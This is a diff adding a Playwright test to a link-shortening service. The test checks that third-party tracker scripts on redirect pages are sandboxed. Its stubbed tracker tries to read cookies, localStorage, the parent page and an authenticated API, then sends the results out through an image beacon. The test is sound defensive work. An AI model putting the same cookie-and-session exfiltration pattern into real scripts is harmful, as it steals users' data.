@@ -127,6 +127,50 @@ test('a link opens an app on a phone, and leads on without it', async ({ api, li
   await expect(other.getByRole('heading')).toHaveText('Arrived at /universal');
 });
 
+test('trackers of a link count a visit, and reach nothing of the web app', async ({ api, page, linkway, watch }) => {
+  watch.expect(/Content Security Policy|sandboxed|ERR_/);
+  await api.register();
+  await page.goto(linkway.web);
+  const trackers = {
+    google_analytics: 'G-ABC1234567',
+    facebook_pixel: '123456789012345',
+    tiktok_pixel: 'C4ABCDEFGHIJKLMNOPQ0',
+    custom: 'https://pixel.example.com/a.gif',
+  };
+  const { short_url } = await api.createLink({ url: `${linkway.destination}/tracked`, countdown_seconds: 4, trackers });
+  const asked: string[] = [];
+  // What a tracker's script would try, told by the title that only the frame of its own can have.
+  const curious = `(async () => {
+    const tried = async (work) => { try { return String(await work()); } catch (error) { return error.name; } };
+    const found = [await tried(() => document.cookie), await tried(() => parent.document.title), await tried(() => localStorage.length), await tried(async () => (await fetch('${linkway.web}/api/me', { credentials: 'include' })).status), self.origin];
+    new Image().src = 'https://www.facebook.com/found?' + encodeURIComponent(JSON.stringify(found));
+  })()`;
+  await page.route(/^https:/, (route) => {
+    asked.push(route.request().url());
+    return /gtag/.test(route.request().url())
+      ? route.fulfill({ contentType: 'text/javascript', body: curious })
+      : route.fulfill({ status: 204 });
+  });
+  await page.goto(short_url);
+  await expect.poll(() => asked.find((url) => url.includes('/found?'))).toBeDefined();
+  const found = asked.find((url) => url.includes('/found?')) ?? '';
+  expect(JSON.parse(decodeURIComponent(new URL(found).search.slice(1)))).toEqual([
+    'SecurityError',
+    'SecurityError',
+    'SecurityError',
+    'TypeError',
+    'null',
+  ]);
+  const hosts = new Set(asked.map((url) => new URL(url).host));
+  expect([...hosts].sort()).toEqual([
+    'analytics.tiktok.com',
+    'pixel.example.com',
+    'www.facebook.com',
+    'www.googletagmanager.com',
+  ]);
+  await expect(page.getByRole('heading')).toHaveText('Arrived at /tracked');
+});
+
 test('a cloaked link stays in the address bar, and leads to the page itself', async ({ api, page, linkway, watch }) => {
   watch.expect(/Unsafe attempt to initiate navigation|allow-top-navigation/);
   await api.register();
